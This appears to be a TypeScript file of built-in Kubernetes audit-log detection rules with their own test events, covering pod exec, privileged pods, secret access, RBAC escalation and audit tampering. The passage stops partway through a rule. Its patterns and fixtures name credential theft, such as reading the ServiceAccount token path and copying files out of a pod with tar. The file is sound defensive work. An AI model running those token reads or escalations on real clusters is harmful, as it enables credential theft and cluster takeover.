/**
 * The built-in detection rules, as data in the same form users write in YAML (see
 * docs/detect.md). Each carries its own tests (`palisade detect test` runs them, and so does
 * `builtin-rules.test.ts`). Conditions read the normalised event (src/detect/event.ts).
 */

type Raw = Record<string, unknown>;

/** A minimal audit.k8s.io/v1 Event for rule tests. */
function audit(
  verb: string,
  resource: string,
  opts: {
    user?: string;
    groups?: string[];
    ns?: string;
    name?: string;
    sub?: string;
    code?: number;
    ip?: string;
    group?: string;
    body?: Raw;
    uri?: string;
    impersonated?: string;
    agent?: string;
  } = {},
): Raw {
  const ev: Raw = {
    kind: 'Event',
    apiVersion: 'audit.k8s.io/v1',
    stage: 'ResponseComplete',
    verb,
    user: { username: opts.user ?? 'alice@example.com', groups: opts.groups ?? ['system:authenticated'] },
    sourceIPs: [opts.ip ?? '10.0.0.5'],
    userAgent: opts.agent ?? 'kubectl/v1.34.0',
    objectRef: {
      resource,
      ...(opts.sub ? { subresource: opts.sub } : {}),
      ...(opts.ns ? { namespace: opts.ns } : {}),
      ...(opts.name ? { name: opts.name } : {}),
      ...(opts.group ? { apiGroup: opts.group } : {}),
    },
    responseStatus: { code: opts.code ?? 200 },
  };
  if (opts.body) ev.requestObject = opts.body;
  if (opts.uri) ev.requestURI = opts.uri;
  if (opts.impersonated) ev.impersonatedUser = { username: opts.impersonated };
  return ev;
}

function pod(spec: Raw, ns = 'default'): Raw {
  return { kind: 'Pod', apiVersion: 'v1', metadata: { name: 'p', namespace: ns }, spec };
}

function deployment(spec: Raw): Raw {
  return { kind: 'Deployment', apiVersion: 'apps/v1', metadata: { name: 'd' }, spec: { template: { spec } } };
}

function falco(rule: string, fields: Raw): Raw {
  return {
    rule,
    priority: 'Warning',
    time: '2026-12-07T10:00:00Z',
    output: rule,
    output_fields: fields,
    source: 'syscall',
  };
}

function flow(dstIP: string, dstPort: number, extra: Raw = {}): Raw {
  return {
    flow: {
      time: '2026-12-07T10:00:00Z',
      verdict: 'FORWARDED',
      IP: { source: '10.0.0.9', destination: dstIP },
      l4: { TCP: { source_port: 40000, destination_port: dstPort } },
      source: { namespace: 'shop', pod_name: 'web-1', labels: [] },
      destination: { namespace: '', pod_name: '' },
      ...extra,
    },
  };
}

const OK = 'action.code < 400';
const NOT_SYSTEM =
  "!(actor.kind in ['system', 'node']) && actor.serviceAccountNamespace != 'kube-system' && !actor.groups.exists(g, g in settings.trustedSubjects) && !(actor.user in settings.trustedSubjects)";
const SYSTEM_NAMESPACES =
  "['kube-system', 'kube-public', 'kube-node-lease', 'gke-system', 'gke-managed-system']";
const WORKLOADS = [
  'pods',
  'deployments',
  'daemonsets',
  'statefulsets',
  'replicasets',
  'jobs',
  'cronjobs',
  'replicationcontrollers',
  'podtemplates',
];
const WRITE = ['create', 'update', 'patch'];
const SHELLS = "['sh', 'bash', 'zsh', 'ash', 'dash', 'ksh', 'csh', 'tcsh', 'fish', 'busybox']";
const binaryName = "process.binary.split('/')[process.binary.split('/').size() - 1]";
const TOKEN_PATHS =
  "['/var/run/secrets/kubernetes.io/serviceaccount', '/run/secrets/kubernetes.io/serviceaccount', '/var/run/secrets/eks.amazonaws.com/serviceaccount', '/var/run/secrets/azure/tokens', '/var/run/secrets/tokens']";
const ROLE_RULES = 'object.?rules.orValue([])';

/** The built-in rules (raw; compiled by `builtinRules()`). */
export const BUILTIN_RULES: readonly Raw[] = [
  {
    id: 'pod-exec',
    title: 'Command executed in a pod',
    severity: 'medium',
    mitre: ['T1609'],
    description:
      'Someone ran a command in a running container through the API (kubectl exec). Attempts the authorizer allowed count even when the kubelet then failed them.',
    match: { verbs: ['create', 'get'], resources: ['pods/exec'] },
    condition: "!(action.code in [401, 403]) && !(actor.kind in ['system', 'node'])",
    message: '{{actor.user}} ran "{{process.args}}" in pod {{target.namespace}}/{{target.name}}',
    tests: [
      {
        name: 'exec by a person',
        expect: true,
        event: audit('create', 'pods', {
          sub: 'exec',
          ns: 'shop',
          name: 'web',
          uri: '/api/v1/namespaces/shop/pods/web/exec?command=sh',
        }),
      },
      {
        name: 'denied exec',
        expect: false,
        event: audit('create', 'pods', { sub: 'exec', ns: 'shop', name: 'web', code: 403 }),
      },
    ],
  },
  {
    id: 'pod-attach',
    title: 'Attached to a running container',
    severity: 'medium',
    mitre: ['T1609'],
    match: { verbs: ['create', 'get'], resources: ['pods/attach'] },
    condition: "!(action.code in [401, 403]) && !(actor.kind in ['system', 'node'])",
    message: '{{actor.user}} attached to pod {{target.namespace}}/{{target.name}}',
    tests: [
      {
        name: 'attach',
        expect: true,
        event: audit('create', 'pods', { sub: 'attach', ns: 'shop', name: 'web' }),
      },
      {
        name: 'log read',
        expect: false,
        event: audit('get', 'pods', { sub: 'log', ns: 'shop', name: 'web' }),
      },
    ],
  },
  {
    id: 'pod-port-forward',
    title: 'Port forwarded into a pod',
    severity: 'medium',
    mitre: ['T1572'],
    match: { verbs: ['create', 'get'], resources: ['pods/portforward'] },
    condition: "!(action.code in [401, 403]) && !(actor.kind in ['system', 'node'])",
    message: '{{actor.user}} forwarded a port into pod {{target.namespace}}/{{target.name}}',
    tests: [
      {
        name: 'port-forward',
        expect: true,
        event: audit('create', 'pods', { sub: 'portforward', ns: 'db', name: 'pg-0' }),
      },
      {
        name: 'forbidden',
        expect: false,
        event: audit('create', 'pods', { sub: 'portforward', ns: 'db', name: 'pg-0', code: 403 }),
      },
    ],
  },
  {
    id: 'steal-serviceaccount-token',
    title: 'ServiceAccount token read inside a container',
    severity: 'high',
    mitre: ['T1528'],
    match: { verbs: ['create', 'get'], resources: ['pods/exec'] },
    condition: `${OK} && ${TOKEN_PATHS}.exists(p, process.args.contains(p)) && !(actor.kind == 'serviceaccount' && actor.serviceAccountNamespace == 'kube-system' && target.namespace == 'kube-system')`,
    message:
      '{{actor.user}} read a ServiceAccount token in pod {{target.namespace}}/{{target.name}} ("{{process.args}}")',
    tests: [
      {
        name: 'cat token',
        expect: true,
        event: audit('create', 'pods', {
          sub: 'exec',
          ns: 'shop',
          name: 'web',
          body: { command: ['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'] },
        }),
      },
      {
        name: 'plain shell',
        expect: false,
        event: audit('create', 'pods', {
          sub: 'exec',
          ns: 'shop',
          name: 'web',
          body: { command: ['/bin/sh'] },
        }),
      },
    ],
  },
  {
    id: 'kubectl-cp-from-pod',
    title: 'Files copied out of a pod',
    severity: 'medium',
    mitre: ['T1005'],
    match: { verbs: ['create', 'get'], resources: ['pods/exec'] },
    condition: `${OK} && process.binary == 'tar' && process.args.split(' ').size() > 2 && process.args.split(' ')[1].contains('c') && process.args.split(' ')[2] == '-' && target.namespace != 'kube-system'`,
    message:
      '{{actor.user}} copied files out of pod {{target.namespace}}/{{target.name}} ("{{process.args}}")',
    tests: [
      {
        name: 'tar cf -',
        expect: true,
        event: audit('create', 'pods', {
          sub: 'exec',
          ns: 'shop',
          name: 'web',
          body: { command: ['tar', 'cf', '-', '/app'] },
        }),
      },
      {
        name: 'tar xf - (copy in)',
        expect: false,
        event: audit('create', 'pods', {
          sub: 'exec',
          ns: 'shop',
          name: 'web',
          body: { command: ['tar', 'xf', '-', '-C', '/tmp'] },
        }),
      },
    ],
  },
  {
    id: 'privileged-pod-created',
    title: 'Privileged container created',
    severity: 'high',
    mitre: ['T1611', 'T1610'],
    match: { verbs: WRITE, resources: WORKLOADS },
    condition: `${OK} && ${NOT_SYSTEM} && containers.exists(c, c.?securityContext.?privileged.orValue(false) == true)`,
    message:
      '{{actor.user}} created a privileged container in {{target.resource}} {{target.namespace}}/{{target.name}}',
    tests: [
      {
        name: 'privileged pod',
        expect: true,
        event: audit('create', 'pods', {
          ns: 'shop',
          body: pod({ containers: [{ name: 'a', image: 'x', securityContext: { privileged: true } }] }),
        }),
      },
      {
        name: 'privileged deployment',
        expect: true,
        event: audit('create', 'deployments', {
          ns: 'shop',
          group: 'apps',
          body: deployment({
            containers: [{ name: 'a', image: 'x', securityContext: { privileged: true } }],
          }),
        }),
      },
      {
        name: 'ordinary pod',
        expect: false,
        event: audit('create', 'pods', {
          ns: 'shop',
          body: pod({ containers: [{ name: 'a', image: 'x' }] }),
        }),
      },
    ],
  },
  {
    id: 'root-container-created',
    title: 'Container explicitly set to run as root',
    severity: 'medium',
    mitre: ['T1611'],
    match: { verbs: WRITE, resources: WORKLOADS },
    condition: `${OK} && ${NOT_SYSTEM} && (pod.?securityContext.?runAsUser.orValue(1) == 0 || containers.exists(c, c.?securityContext.?runAsUser.orValue(1) == 0 || c.?securityContext.?runAsNonRoot.orValue(true) == false))`,
    message:
      '{{actor.user}} created {{target.resource}} {{target.namespace}}/{{target.name}} running as root',
    tests: [
      {
        name: 'runAsUser 0',
        expect: true,
        event: audit('create', 'pods', {
          ns: 'shop',
          body: pod({ containers: [{ name: 'a', securityContext: { runAsUser: 0 } }] }),
        }),
      },
      {
        name: 'runAsUser 1000',
        expect: false,
        event: audit('create', 'pods', {
          ns: 'shop',
          body: pod({ containers: [{ name: 'a', securityContext: { runAsUser: 1000 } }] }),
        }),
      },
    ],
  },
  {
    id: 'host-path-volume',
    title: 'Pod mounts a host path',
    severity: 'high',
    mitre: ['T1611'],
    match: { verbs: WRITE, resources: WORKLOADS },
    condition: `${OK} && ${NOT_SYSTEM} && pod.?volumes.orValue([]).exists(v, has(v.hostPath))`,
    message:
      '{{actor.user}} created {{target.resource}} {{target.namespace}}/{{target.name}} mounting a host path',
    tests: [
      {
        name: 'hostPath /',
        expect: true,
        event: audit('create', 'pods', {
          ns: 'shop',
          body: pod({ containers: [{ name: 'a' }], volumes: [{ name: 'h', hostPath: { path: '/' } }] }),
        }),
      },
      {
        name: 'emptyDir',
        expect: false,
        event: audit('create', 'pods', {
          ns: 'shop',
          body: pod({ containers: [{ name: 'a' }], volumes: [{ name: 'e', emptyDir: {} }] }),
        }),
      },
    ],
  },
  {
    id: 'host-network-pod',
    title: 'Pod uses the host network',
    severity: 'high',
    mitre: ['T1611'],
    match: { verbs: WRITE, resources: WORKLOADS },
    condition: `${OK} && ${NOT_SYSTEM} && pod.?hostNetwork.orValue(false) == true`,
    message:
      '{{actor.user}} created {{target.resource}} {{target.namespace}}/{{target.name}} on the host network',
    tests: [
      {
        name: 'hostNetwork',
        expect: true,
        event: audit('create', 'pods', { ns: 'shop', body: pod({ hostNetwork: true, containers: [] }) }),
      },
      {
        name: 'pod network',
        expect: false,
        event: audit('create', 'pods', { ns: 'shop', body: pod({ containers: [] }) }),
      },
    ],
  },
  {
    id: 'host-pid-pod',
    title: 'Pod shares the host PID namespace',
    severity: 'high',
    mitre: ['T1611'],
    match: { verbs: WRITE, resources: WORKLOADS },
    condition: `${OK} && ${NOT_SYSTEM} && pod.?hostPID.orValue(false) == true`,
    message:
      '{{actor.user}} created {{target.resource}} {{target.namespace}}/{{target.name}} sharing the host PID namespace',
    tests: [
      {
        name: 'hostPID',
        expect: true,
        event: audit('create', 'pods', { ns: 'shop', body: pod({ hostPID: true, containers: [] }) }),
      },
      {
        name: 'no hostPID',
        expect: false,
        event: audit('create', 'pods', { ns: 'shop', body: pod({ hostPID: false, containers: [] }) }),
      },
    ],
  },
  {
    id: 'host-ipc-pod',
    title: 'Pod shares the host IPC namespace',
    severity: 'high',
    mitre: ['T1611'],
    match: { verbs: WRITE, resources: WORKLOADS },
    condition: `${OK} && ${NOT_SYSTEM} && pod.?hostIPC.orValue(false) == true`,
    message:
      '{{actor.user}} created {{target.resource}} {{target.namespace}}/{{target.name}} sharing the host IPC namespace',
    tests: [
      {
        name: 'hostIPC',
        expect: true,
        event: audit('create', 'pods', { ns: 'shop', body: pod({ hostIPC: true, containers: [] }) }),
      },
      {
        name: 'no hostIPC',
        expect: false,
        event: audit('create', 'pods', { ns: 'shop', body: pod({ containers: [] }) }),
      },
    ],
  },
  {
    id: 'dangerous-capabilities',
    title: 'Container granted dangerous capabilities',
    severity: 'high',
    mitre: ['T1611'],
    match: { verbs: WRITE, resources: WORKLOADS },
    condition: `${OK} && ${NOT_SYSTEM} && containers.exists(c, c.?securityContext.?capabilities.?add.orValue([]).exists(k, k.upperAscii().replace('CAP_', '') in ['ALL', 'SYS_ADMIN', 'SYS_PTRACE', 'SYS_MODULE', 'NET_ADMIN', 'DAC_READ_SEARCH', 'SYS_RAWIO', 'BPF', 'PERFMON', 'SYS_BOOT']))`,
    message:
      '{{actor.user}} created {{target.resource}} {{target.namespace}}/{{target.name}} with dangerous capabilities',
    tests: [
      {
        name: 'SYS_ADMIN',
        expect: true,
        event: audit('create', 'pods', {
          ns: 'shop',
          body: pod({
            containers: [{ name: 'a', securityContext: { capabilities: { add: ['SYS_ADMIN'] } } }],
          }),
        }),
      },
      {
        name: 'NET_BIND_SERVICE',
        expect: false,
        event: audit('create', 'pods', {
          ns: 'shop',
          body: pod({
            containers: [{ name: 'a', securityContext: { capabilities: { add: ['NET_BIND_SERVICE'] } } }],
          }),
        }),
      },
    ],
  },
  {
    id: 'ephemeral-container-added',
    title: 'Ephemeral (debug) container added to a pod',
    severity: 'medium',
    mitre: ['T1609'],
    match: { verbs: ['update', 'patch'], resources: ['pods/ephemeralcontainers'] },
    condition: `${OK} && !(actor.kind in ['system', 'node'])`,
    message: '{{actor.user}} added an ephemeral container to pod {{target.namespace}}/{{target.name}}',
    tests: [
      {
        name: 'kubectl debug',
        expect: true,
        event: audit('patch', 'pods', { sub: 'ephemeralcontainers', ns: 'shop', name: 'web' }),
      },
      {
        name: 'forbidden',
        expect: false,
        event: audit('patch', 'pods', { sub: 'ephemeralcontainers', ns: 'shop', name: 'web', code: 403 }),
      },
    ],
  },
  {
    id: 'pod-in-system-namespace',
    title: 'Workload created in a system namespace by a person',
    severity: 'medium',
    mitre: ['T1610'],
    match: { verbs: ['create'], resources: ['pods'] },
    condition: `${OK} && target.namespace in ${SYSTEM_NAMESPACES} && ${NOT_SYSTEM} && actor.kind != 'serviceaccount'`,
    message: '{{actor.user}} created {{target.resource}} {{target.name}} in {{target.namespace}}',
    tests: [
      {
        name: 'pod in kube-system',
        expect: true,
        event: audit('create', 'pods', { ns: 'kube-system', body: pod({ containers: [] }, 'kube-system') }),
      },
      {
        name: 'controller',
        expect: false,
        event: audit('create', 'pods', {
          ns: 'kube-system',
          user: 'system:kube-controller-manager',
          body: pod({ containers: [] }, 'kube-system'),
        }),
      },
    ],
  },
  {
    id: 'kube-system-modified',
    title: 'Object in kube-system changed by a person',
    severity: 'medium',
    mitre: ['T1578'],
    match: { verbs: ['create', 'update', 'patch', 'delete', 'deletecollection'] },
    condition: `${OK} && target.namespace == 'kube-system' && actor.kind == 'human' && !(target.resource in ['events', 'leases']) && !(actor.user in settings.trustedSubjects)`,
    message: '{{actor.user}} {{action.verb}} {{target.resource}} kube-system/{{target.name}}',
    tests: [
      {
        name: 'configmap patched',
        expect: true,
        event: audit('patch', 'configmaps', { ns: 'kube-system', name: 'coredns' }),
      },
      {
        name: 'read only',
        expect: false,
        event: audit('get', 'configmaps', { ns: 'kube-system', name: 'coredns' }),
      },
    ],
  },
  {
    id: 'secrets-listed-all-namespaces',
    title: 'Secrets listed across all namespaces',
    severity: 'high',
    mitre: ['T1552.007'],
    match: { verbs: ['list', 'watch'], resources: ['secrets'] },
    condition: `${OK} && target.namespace == '' && ${NOT_SYSTEM}`,
    message: '{{actor.user}} listed secrets in every namespace',
    tests: [
      { name: 'list -A', expect: true, event: audit('list', 'secrets') },
      { name: 'one namespace', expect: false, event: audit('list', 'secrets', { ns: 'shop' }) },
    ],
  },
  {
    id: 'secrets-listed-by-unusual-subject',
    title: 'Secrets listed in a namespace by a person or a foreign ServiceAccount',
    severity: 'medium',
    mitre: ['T1552.007'],
    match: { verbs: ['list', 'watch'], resources: ['secrets'] },
    condition: `${OK} && target.namespace != '' && ${NOT_SYSTEM} && (actor.kind == 'human' || (actor.kind == 'serviceaccount' && actor.serviceAccountNamespace != target.namespace && actor.serviceAccountNamespace != 'kube-system'))`,
    message: '{{actor.user}} listed secrets in {{target.namespace}}',
    tests: [
      {
        name: 'foreign SA',
        expect: true,
        event: audit('list', 'secrets', {
          ns: 'payments',
          user: 'system:serviceaccount:ci:bot',
          groups: ['system:serviceaccounts'],
        }),
      },
      {
        name: 'own SA',
        expect: false,
        event: audit('list', 'secrets', {
          ns: 'ci',
          user: 'system:serviceaccount:ci:bot',
          groups: ['system:serviceaccounts'],
        }),
      },
    ],
  },
  {
    id: 'secret-read-cross-namespace',
    title: 'ServiceAccount read a Secret of another namespace',
    severity: 'high',
    mitre: ['T1552.007'],
    match: { verbs: ['get'], resources: ['secrets'] },
    condition: `${OK} && actor.kind == 'serviceaccount' && actor.serviceAccountNamespace != target.namespace && actor.serviceAccountNamespace != 'kube-system'`,
    message: '{{actor.user}} read secret {{target.namespace}}/{{target.name}}',
    tests: [
      {
        name: 'cross-namespace',
        expect: true,
        event: audit('get', 'secrets', { ns: 'payments', name: 'db', user: 'system:serviceaccount:ci:bot' }),
      },
      {
        name: 'same namespace',
        expect: false,
        event: audit('get', 'secrets', { ns: 'ci', name: 'db', user: 'system:serviceaccount:ci:bot' }),
      },
    ],
  },
  {
    id: 'secret-access-denied',
    title: 'Secret read refused',
    severity: 'low',
    mitre: ['T1552.007'],
    match: { verbs: ['get'], resources: ['secrets'] },
    condition:
      "action.code in [401, 403, 404] && !(actor.kind in ['system', 'node']) && !(actor.kind == 'serviceaccount' && actor.serviceAccountNamespace == 'kube-system')",
    message: '{{actor.user}} was refused secret {{target.namespace}}/{{target.name}} ({{action.code}})',
    tests: [
      {
        name: '403',
        expect: true,
        event: audit('get', 'secrets', { ns: 'payments', name: 'db', code: 403 }),
      },
      { name: '200', expect: false, event: audit('get', 'secrets', { ns: 'payments', name: 'db' }) },
    ],
  },
  {
    id: 'bulk-secret-access',
    title: 'Many Secrets read by one subject',
    severity: 'high',
    mitre: ['T1552.007'],
    match: { verbs: ['get', 'list', 'watch'], resources: ['secrets'] },
    condition: `${NOT_SYSTEM} && actor.kind != 'anonymous'`,
    message: '{{actor.user}} accessed many secrets in a short time',
    threshold: { count: 10, windowSeconds: 60, by: ['actor.user'] },
  },
  {
    id: 'serviceaccount-token-secret-created',
    title: 'Long-lived ServiceAccount token Secret created',
    severity: 'medium',
    mitre: ['T1098.001'],
    match: { verbs: ['create'], resources: ['secrets'] },
    condition: `${OK} && object.?type.orValue('') == 'kubernetes.io/service-account-token' && ${NOT_SYSTEM}`,
    message: '{{actor.user}} created a ServiceAccount token secret {{target.namespace}}/{{target.name}}',
    tests: [
      {
        name: 'token secret',
        expect: true,
        event: audit('create', 'secrets', {
          ns: 'ci',
          body: { kind: 'Secret', type: 'kubernetes.io/service-account-token', data: { token: 'x' } },
        }),
      },
      {
        name: 'opaque',
        expect: false,
        event: audit('create', 'secrets', { ns: 'ci', body: { kind: 'Secret', type: 'Opaque' } }),
      },
    ],
  },
  {
    id: 'token-request-for-other-serviceaccount',
    title: 'Token requested for another ServiceAccount',
    severity: 'high',
    mitre: ['T1528'],
    match: { verbs: ['create'], resources: ['serviceaccounts/token'] },
    condition: `${OK} && actor.kind != 'node' && !(actor.kind == 'system' && target.namespace in ${SYSTEM_NAMESPACES}) && !(actor.kind == 'serviceaccount' && actor.serviceAccountNamespace == target.namespace && actor.serviceAccountName == target.name)`,
    message: '{{actor.user}} requested a token for ServiceAccount {{target.namespace}}/{{target.name}}',
    tests: [
      {
        name: 'person mints a token',
        expect: true,
        event: audit('create', 'serviceaccounts', { sub: 'token', ns: 'ci', name: 'deployer' }),
      },
      {
        name: 'kubelet',
        expect: false,
        event: audit('create', 'serviceaccounts', {
          sub: 'token',
          ns: 'ci',
          name: 'deployer',
          user: 'system:node:n1',
          groups: ['system:nodes'],
        }),
      },
    ],
  },
  {
    id: 'cluster-admin-binding',
    title: 'Cluster-wide binding to a privileged role created',
    severity: 'critical',
    mitre: ['T1098', 'T1078'],
    match: { verbs: WRITE, resources: ['clusterrolebindings'] },
    condition: `${OK} && object.?roleRef.?name.orValue('') in ['cluster-admin', 'admin', 'edit', 'system:masters', 'system:kube-controller-manager', 'system:kube-scheduler', 'system:node', 'system:controller:clusterrole-aggregation-controller'] && ${NOT_SYSTEM}`,
    message: '{{actor.user}} bound {{object.roleRef.name}} with {{target.resource}} {{target.name}}',
    tests: [
      {
        name: 'cluster-admin',
        expect: true,
        event: audit('create', 'clusterrolebindings', {
          name: 'x',
          group: 'rbac.authorization.k8s.io',
          body: {
            kind: 'ClusterRoleBinding',
            roleRef: { kind: 'ClusterRole', name: 'cluster-admin' },
            subjects: [{ kind: 'User', name: 'eve' }],
          },
        }),
      },
      {
        name: 'view',
        expect: false,
        event: audit('create', 'clusterrolebindings', {
          name: 'x',
          body: { kind: 'ClusterRoleBinding', roleRef: { kind: 'ClusterRole', name: 'view' } },
        }),
      },
    ],
  },
  {
    id: 'namespace-admin-binding',
    title: 'Namespace binding to an administrator role created',
    severity: 'high',
    mitre: ['T1098'],
    match: { verbs: WRITE, resources: ['rolebindings'] },
    condition: `${OK} && object.?roleRef.?name.orValue('') in ['cluster-admin', 'admin'] && ${NOT_SYSTEM}`,
    message: '{{actor.user}} bound {{object.roleRef.name}} in {{target.namespace}} with {{target.name}}',
    tests: [
      {
        name: 'admin in shop',
        expect: true,
        event: audit('create', 'rolebindings', {
          ns: 'shop',
          name: 'x',
          body: { roleRef: { kind: 'ClusterRole', name: 'admin' } },
        }),
      },
      {
        name: 'view in shop',
        expect: false,
        event: audit('create', 'rolebindings', {
          ns: 'shop',
          name: 'x',
          body: { roleRef: { kind: 'ClusterRole', name: 'view' } },
        }),
      },
    ],
  },
  {
    id: 'binding-to-broad-group',
    title: 'Binding grants a role to every authenticated or anonymous user',
    severity: 'critical',
    mitre: ['T1098'],
    match: { verbs: WRITE, resources: ['clusterrolebindings', 'rolebindings'] },
    condition: `${OK} && object.?subjects.orValue([]).exists(s, s.?name.orValue('') in ['system:authenticated', 'system:unauthenticated', 'system:anonymous', 'system:serviceaccounts'])`,
    message:
      '{{actor.user}} bound a role to a group that includes everyone ({{target.resource}} {{target.name}})',
    tests: [
      {
        name: 'system:authenticated',
        expect: true,
        event: audit('create', 'clusterrolebindings', {
          name: 'x',
          body: { roleRef: { name: 'edit' }, subjects: [{ kind: 'Group', name: 'system:authenticated' }] },
        }),
      },
      {
        name: 'named user',
        expect: false,
        event: audit('create', 'clusterrolebindings', {
          name: 'x',
          body: { roleRef: { name: 'edit' }, subjects: [{ kind: 'User', name: 'bob' }] },
        }),
      },
    ],
  },
  {
    id: 'wildcard-role',
    title: 'Role with wildcard permissions',
    severity: 'high',
    mitre: ['T1098'],
    match: { verbs: ['create'], resources: ['roles', 'clusterroles'] },
    condition: `${OK} && ${NOT_SYSTEM} && ${ROLE_RULES}.exists(r, r.?verbs.orValue([]).exists(v, v == '*') || r.?resources.orValue([]).exists(v, v == '*')) && !target.name.startsWith('system:') && target.name != 'cluster-admin'`,
    message: '{{actor.user}} wrote {{target.resource}} {{target.name}} with wildcard rules',
    tests: [
      {
        name: 'verbs *',
        expect: true,
        event: audit('create', 'clusterroles', {
          name: 'god',
          body: { rules: [{ apiGroups: [''], resources: ['pods'], verbs: ['*'] }] },
        }),
      },
      {
        name: 'specific',
        expect: false,
        event: audit('create', 'clusterroles', {
          name: 'reader',
          body: { rules: [{ apiGroups: [''], resources: ['pods'], verbs: ['get'] }] },
        }),
      },
    ],
  },
  {
    id: 'role-grants-pod-exec',
    title: 'Role grants exec or attach into pods',
    severity: 'medium',
    mitre: ['T1609'],
    match: { verbs: ['create'], resources: ['roles', 'clusterroles'] },
    condition: `${OK} && ${NOT_SYSTEM} && ${ROLE_RULES}.exists(r, r.?resources.orValue([]).exists(x, x in ['pods/exec', 'pods/attach', 'pods/*', '*']) && r.?verbs.orValue([]).exists(v, v in ['create', 'get', '*'])) && !target.name.startsWith('system:') && !(target.name in ['admin', 'edit', 'cluster-admin'])`,
    message: '{{actor.user}} wrote {{target.resource}} {{target.name}} granting exec into pods',
    tests: [
      {
        name: 'pods/exec create',
        expect: true,
        event: audit('create', 'roles', {
          ns: 'shop',
          name: 'debug',
          body: { rules: [{ resources: ['pods/exec'], verbs: ['create'] }] },
        }),
      },
      {
        name: 'pods get',
        expect: false,
        event: audit('create', 'roles', {
          ns: 'shop',
          name: 'r',
          body: { rules: [{ resources: ['pods'], verbs: ['get'] }] },
        }),
      },
    ],
  },
  {
    id: 'role-grants-node-proxy',
    title: 'Role grants the node proxy',
    severity: 'high',
    mitre: ['T1611'],
    match: { verbs: ['create'], resources: ['roles', 'clusterroles'] },
    condition: `${OK} && ${NOT_SYSTEM} && ${ROLE_RULES}.exists(r, r.?resources.orValue([]).exists(x, x in ['nodes/proxy', 'nodes/*', '*'])) && !target.name.startsWith('system:')`,
    message: '{{actor.user}} wrote {{target.resource}} {{target.name}} granting nodes/proxy',
    tests: [
      {
        name: 'nodes/proxy',
        expect: true,
        event: audit('create', 'clusterroles', {
          name: 'np',
          body: { rules: [{ resources: ['nodes/proxy'], verbs: ['get'] }] },
        }),
      },
      {
        name: 'nodes',
        expect: false,
        event: audit('create', 'clusterroles', {
          name: 'n',
          body: { rules: [{ resources: ['nodes'], verbs: ['get'] }] },
        }),
      },
    ],
  },
  {
    id: 'role-grants-escalation-verbs',
    title: 'Role grants escalate, bind or impersonate',
    severity: 'high',
    mitre: ['T1098'],
    match: { verbs: ['create'], resources: ['roles', 'clusterroles'] },
    condition: `${OK} && ${NOT_SYSTEM} && ${ROLE_RULES}.exists(r, r.?verbs.orValue([]).exists(v, v in ['escalate', 'bind', 'impersonate'])) && !target.name.startsWith('system:') && !(target.name in ['admin', 'edit', 'cluster-admin'])`,
    message:
      '{{actor.user}} wrote {{target.resource}} {{target.name}} granting escalate, bind or impersonate',
    tests: [
      {
        name: 'impersonate',
        expect: true,
        event: audit('create', 'clusterroles', {
          name: 'imp',
          body: { rules: [{ resources: ['users'], verbs: ['impersonate'] }] },
        }),
      },
      {
        name: 'get',
        expect: false,
        event: audit('create', 'clusterroles', {
          name: 'r',
          body: { rules: [{ resources: ['users'], verbs: ['get'] }] },
        }),
      },
    ],
  },
  {
    id: 'system-role-modified',
    title: 'Built-in system role or binding changed',
    severity: 'high',
    mitre: ['T1098'],
    match: {
      verbs: ['update', 'patch', 'delete'],
      resources: ['clusterroles', 'clusterrolebindings', 'roles', 'rolebindings'],
    },
    condition: `${OK} && (target.name.startsWith('system:') || target.name in ['cluster-admin', 'admin', 'edit', 'view']) && !(target.name in ['system:coredns', 'system:kube-dns', 'system:aggregate-to-edit', 'system:aggregate-to-view', 'system:aggregate-to-admin']) && ${NOT_SYSTEM}`,
    message: '{{actor.user}} {{action.verb}} {{target.resource}} {{target.name}}',
    tests: [
      {
        name: 'patch system:node',
        expect: true,
        event: audit('patch', 'clusterroles', { name: 'system:node' }),
      },
      { name: 'own role', expect: false, event: audit('patch', 'clusterroles', { name: 'team-a' }) },
    ],
  },
  {
    id: 'admission-webhook-created',
    title: 'Admission webhook registered',
    severity: 'high',
    mitre: ['T1554', 'T1546'],
    match: {
      verbs: ['create'],
      resources: ['validatingwebhookconfigurations', 'mutatingwebhookconfigurations'],
    },
    condition: `${OK} && ${NOT_SYSTEM}`,
    message: '{{actor.user}} registered {{target.resource}} {{target.name}}',
    tests: [
      {
        name: 'mutating webhook',
        expect: true,
        event: audit('create', 'mutatingwebhookconfigurations', { name: 'inject' }),
      },
      {
        name: 'update',
        expect: false,
        event: audit('update', 'mutatingwebhookconfigurations', { name: 'inject' }),
      },
    ],
  },
  {
    id: 'admission-webhook-changed',
    title: 'Admission webhook configuration changed or removed',
    severity: 'high',
    mitre: ['T1562.001', 'T1554'],
    match: {
      verbs: ['update', 'patch', 'delete', 'deletecollection'],
      resources: ['validatingwebhookconfigurations', 'mutatingwebhookconfigurations'],
    },
    condition: `${OK} && ${NOT_SYSTEM}`,
    message: '{{actor.user}} {{action.verb}} {{target.resource}} {{target.name}}',
    tests: [
      {
        name: 'webhook deleted',
        expect: true,
        event: audit('delete', 'validatingwebhookconfigurations', { name: 'palisade' }),
      },
      {
        name: 'read',
        expect: false,
        event: audit('get', 'validatingwebhookconfigurations', { name: 'palisade' }),
      },
    ],
  },
  {
    id: 'admission-policy-changed',
    title: 'Admission policy or binding changed',
    severity: 'high',
    mitre: ['T1562.001'],
    match: {
      verbs: ['create', 'update', 'patch', 'delete', 'deletecollection'],
      resources: [
        'validatingadmissionpolicies',
        'validatingadmissionpolicybindings',
        'mutatingadmissionpolicies',
        'mutatingadmissionpolicybindings',
      ],
    },
    condition: `${OK} && ${NOT_SYSTEM}`,
    message: '{{actor.user}} {{action.verb}} {{target.resource}} {{target.name}}',
    tests: [
      {
        name: 'binding deleted',
        expect: true,
        event: audit('delete', 'validatingadmissionpolicybindings', { name: 'no-priv' }),
      },
      {
        name: 'denied',
        expect: false,
        event: audit('delete', 'validatingadmissionpolicybindings', { name: 'no-priv', code: 403 }),
      },
    ],
  },
  {
    id: 'audit-trail-tampering',
    title: 'Events or audit configuration deleted',
    severity: 'high',
    mitre: ['T1070'],
    match: {
      verbs: ['delete', 'deletecollection', 'update', 'patch'],
      resources: ['events', 'auditsinks', 'configmaps'],
    },
    condition: `${OK} && ${NOT_SYSTEM} && actor.kind == 'human' && (target.resource in ['events', 'auditsinks'] ? action.verb in ['delete', 'deletecollection'] || target.resource == 'auditsinks' : target.name.contains('audit'))`,
    message: '{{actor.user}} {{action.verb}} {{target.resource}} {{target.namespace}}/{{target.name}}',
    tests: [
      { name: 'events wiped', expect: true, event: audit('deletecollection', 'events', { ns: 'shop' }) },
      { name: 'events patched', expect: false, event: audit('patch', 'events', { ns: 'shop', name: 'e1' }) },
    ],
  },
  {
    id: 'anonymous-access',
